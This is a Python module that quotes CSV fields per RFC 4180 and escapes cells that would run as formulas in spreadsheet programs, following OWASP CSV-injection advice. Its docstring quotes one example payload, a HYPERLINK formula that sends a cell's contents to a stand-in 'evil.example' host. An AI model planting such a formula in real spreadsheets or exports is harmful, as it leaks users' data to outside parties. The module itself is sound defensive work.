"""CSV text: quoting each field that needs it, and cells made safe for spreadsheet programs.

Python's :mod:`csv` writer quotes a field holding the delimiter, the quote character or a
character of its *line terminator*; with ``lineterminator="\\n"`` a carriage return inside a
value goes out unquoted (``RT1,第一行\\r第二行``) and splits the row for every reader. So the
files that must read back exactly (the interchange export, the audit trail's file, the
compliance report for tools) are written with :func:`csv_line`, RFC 4180 quoting with ``\\n``
line ends.

Files made for people to open in a spreadsheet program (the RACI matrix, the compliance
report's CSV) also pass every cell through :func:`spreadsheet_cell`: a cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a formula
(``=HYPERLINK("http://evil.example/?"&A1,"点击")``), so it gets a leading single quote, as the
OWASP "CSV Injection" page advises.

The interchange files (CSV and workbook) are data that must come back unchanged, yet HR offices
open them in Excel too. Their text values go through :func:`formula_escape` on the way out and
:func:`formula_unescape` on the way in: a reversible escape, so no exported cell starts like a
formula and export -> import still carries every value as it was.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

#: a field holding one of these is quoted (RFC 4180: delimiter, quote, line breaks)
NEEDS_QUOTES = frozenset(',"\r\n')
#: the first characters that make a spreadsheet program read a cell as a formula (OWASP)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def quoted(field: str) -> str:
    """One field as CSV text: in double quotes (inner quotes doubled) when it needs them."""
    if NEEDS_QUOTES.isdisjoint(field):
        return field
    return '"' + field.replace('"', '""') + '"'


def csv_line(fields: Iterable[str]) -> str:
    """One row of CSV text, ending in ``\\n``."""
    return ",".join(quoted(f) for f in fields) + "\n"


def spreadsheet_cell(text: str) -> str:
    """``text`` as a spreadsheet program must show it, never run it: a leading ``'`` when it
    starts like a formula (OWASP CSV Injection)."""
    return "'" + text if text.startswith(FORMULA_START) else text


_FIRST = frozenset(("'", *FORMULA_START))
_STARTS = "[" + re.escape("".join(FORMULA_START)) + "]"
#: text an interchange file must escape: any run of ``'`` then a formula's first character
_ESCAPED_ON_WRITE = re.compile("'*" + _STARTS)
#: text an interchange file holds escaped: one ``'`` or more, then a formula's first character
_ESCAPED_ON_READ = re.compile("'+" + _STARTS)


def formula_escape(text: str) -> str:
    """A text value as an interchange file writes it: one more leading ``'`` when it matches
    ``^'*[=+\\-@\\t\\r]`` (``=SUM(A1)`` -> ``'=SUM(A1)``, ``'=x`` -> ``''=x``), else as it is.
    The result never starts with a formula's first character; :func:`formula_unescape`
    gives the value back."""
    if not text or text[0] not in _FIRST:  # most text: one look at its first character
        return text
    return "'" + text if _ESCAPED_ON_WRITE.match(text) else text


def formula_unescape(text: str) -> str:
    """A text value of an interchange file as stored: one leading ``'`` less when it matches
    ``^'+[=+\\-@\\t\\r]``, else as it is (the inverse of :func:`formula_escape`, so
    ``formula_unescape(formula_escape(s)) == s`` for every string)."""
    if not text or text[0] != "'":
        return text
    return text[1:] if _ESCAPED_ON_READ.match(text) else text
